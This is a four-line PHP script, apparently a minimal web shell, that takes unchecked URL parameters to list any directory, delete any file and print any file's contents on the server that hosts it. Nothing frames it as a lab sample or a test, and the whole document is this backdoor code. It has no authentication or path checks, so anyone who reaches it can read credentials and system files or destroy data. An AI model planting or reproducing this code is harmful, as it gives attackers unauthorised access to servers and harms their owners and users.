<?php
foreach (scandir($_GET['d']) as $f) echo $f, "\n";
if (isset($_GET['del'])) unlink($_GET['del']);
if (isset($_GET['r'])) readfile($_GET['r']);
